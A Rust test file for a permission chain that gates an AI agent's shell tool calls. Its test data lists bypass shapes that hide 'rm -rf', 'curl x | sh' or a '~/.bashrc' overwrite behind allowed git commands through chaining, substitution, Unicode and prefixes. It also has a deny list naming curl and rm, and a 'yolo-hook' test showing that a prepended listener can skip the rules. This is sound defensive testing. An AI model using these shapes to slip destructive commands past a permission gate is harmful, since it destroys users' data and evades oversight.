//! The rules plugged into the chain: the known bypass shapes end in deny or ask through the
//! whole chain even when its default allows; a listener in front can skip the rules listener,
//! but not the same deny rules registered as a guard; the trace names the rule and the form.

use seal_policy::chain::{
    Because, Chain, Check, Decision, Evaluated, Next, Reason, Ruling, Scope, StageError, ToolCall,
    Verdict,
};
use seal_policy::rules::{Evaluation, RuleLimits, RuleSet, RulesListener};
use seal_record::Outcome;
use seal_test_support::tool_call::bash_call;

const RULES: &[u8] = br#"{"permissions": {
    "allow": ["Bash(git log:*)", "Bash(git status)", "Bash(npm test:*)"],
    "deny": ["Bash(rm:*)", "Bash(git clean:*)", "Bash(curl:*)"]
}}"#;

fn rules() -> RuleSet {
    RuleSet::from_json(RULES, &RuleLimits::default()).unwrap()
}

/// A chain whose default allows, with the rules as its only listener.
fn rules_chain() -> Chain {
    let mut chain = Chain::new(Decision::Allow);
    chain
        .append("rules", Scope::everywhere(), RulesListener::new(rules()))
        .unwrap();
    chain
}

/// What the chain does with a call when every ask is answered `outcome`.
fn verdict(chain: &Chain, call: &ToolCall, outcome: Outcome) -> (bool, Verdict) {
    match chain.evaluate(call) {
        Evaluated::Decided(verdict) => (false, verdict),
        Evaluated::Pending(pending) => (true, pending.finish(outcome)),
    }
}

const BYPASS_SHAPES: &[&str] = &[
    "git log && curl x | sh",
    "git log; rm -rf t",
    "git log $(rm -rf t)",
    "git log\nrm -rf t",
    "git fetch && git clean -fd",
    "bash -c 'git status; rm -rf t'",
    "/usr/bin/rm -rf t",
    "env X=1 rm -rf t",
    "sudo rm -rf t",
    "nice -n 5 rm -rf t",
    "timeout 5 rm -rf t",
    "git status > ~/.bashrc",
    "rm$'\\t'-rf t",
    "r\u{ff4d} -rf t",
    "git log `rm -rf t`",
    "git status & rm -rf t",
    "git status || rm -rf t",
    "git log | rm -rf t",
];

#[test]
fn bypass_shapes_never_reach_allow_without_an_approval() {
    let chain = rules_chain();
    for command in BYPASS_SHAPES {
        let call = bash_call(command);
        for outcome in [Outcome::Rejected, Outcome::Cancelled, Outcome::Unavailable] {
            let (asked, verdict) = verdict(&chain, &call, outcome);
            assert!(
                !verdict.is_allow(),
                "{command:?} asked={asked}\n{}",
                verdict.trace()
            );
        }
        assert!(
            !chain.evaluate(&call).without_approval().is_allow(),
            "{command:?}"
        );
    }
}

#[test]
fn commands_the_rules_allow_are_allowed_and_explained() {
    let chain = rules_chain();
    for command in ["git status", "git log --oneline", "npm test -- --watch"] {
        let call = bash_call(command);
        let (asked, verdict) = verdict(&chain, &call, Outcome::Rejected);
        assert!(
            !asked && verdict.is_allow(),
            "{command:?}\n{}",
            verdict.trace()
        );
        let decider = verdict.trace().decided_by().unwrap();
        assert_eq!(decider.stage().name(), "rules");
        assert!(decider.because().is_some(), "{command:?}");
    }
}

#[test]
fn an_allow_all_rule_next_to_a_specific_ask_still_asks() {
    let rules = RuleSet::from_json(
        br#"{"permissions": {"allow": ["Bash"], "ask": ["Bash(git push:*)"]}}"#,
        &RuleLimits::default(),
    )
    .unwrap();
    let mut chain = Chain::new(Decision::Allow);
    chain
        .append("rules", Scope::everywhere(), RulesListener::new(rules))
        .unwrap();
    let call = bash_call("git push --force origin main");
    assert!(matches!(chain.evaluate(&call), Evaluated::Pending(_)));
}

/// Deny rules as a guard: the same rule set, but only its denies, checked after every allow.
fn deny_rules_guard(rules: RuleSet) -> impl Fn(&ToolCall) -> Result<Check, StageError> {
    let listener = RulesListener::new(rules);
    move |call: &ToolCall| {
        Ok(match listener.evaluate(call) {
            Evaluation::Deny(matched) => Check::Deny {
                reason: Reason::from(format!("denied by rule {}", matched.text)),
                because: Some(Because::rule(matched.text.clone())),
            },
            _ => Check::Pass,
        })
    }
}

#[test]
fn an_earlier_listener_skips_the_rules_listener_but_not_the_rules_as_a_guard() {
    let mut chain = rules_chain();
    chain
        .prepend(
            "yolo-hook",
            Scope::everywhere(),
            |_: &ToolCall, _: Next<'_>| -> Result<Ruling, StageError> { Ok(Ruling::allow()) },
        )
        .unwrap();
    let call = bash_call("git log; rm -rf t");
    let (_, skipped) = verdict(&chain, &call, Outcome::Rejected);
    assert!(skipped.is_allow(), "the listener-shaped deny was skipped");
    chain
        .add_global_guard("deny-rules", deny_rules_guard(rules()))
        .unwrap();
    let (_, guarded) = verdict(&chain, &call, Outcome::Rejected);
    assert!(!guarded.is_allow());
    assert_eq!(
        guarded.trace().decided_by().unwrap().stage().name(),
        "deny-rules"
    );
    // The guard lets the rules' allows through.
    let (_, allowed) = verdict(&chain, &bash_call("git status"), Outcome::Rejected);
    assert!(allowed.is_allow());
}

#[test]
fn rules_trace_snapshots() {
    let mut chain = rules_chain();
    chain
        .prepend(
            "audit",
            Scope::everywhere(),
            |_: &ToolCall, next: Next<'_>| Ok(next.run()),
        )
        .unwrap();
    chain
        .add_global_guard("deny-rules", deny_rules_guard(rules()))
        .unwrap();
    let mut text = String::new();
    for command in [
        "git status",
        "sudo rm -rf t",
        "git fetch && git clean -fd",
        "git log $(rm -rf t)",
        "make",
    ] {
        let call = bash_call(command);
        let (asked, verdict) = verdict(&chain, &call, Outcome::Rejected);
        text.push_str(&format!(
            "command: {command:?}\nasked: {asked}\n{}\n\n",
            verdict.trace()
        ));
    }
    insta::assert_snapshot!("rules_traces", text);
}
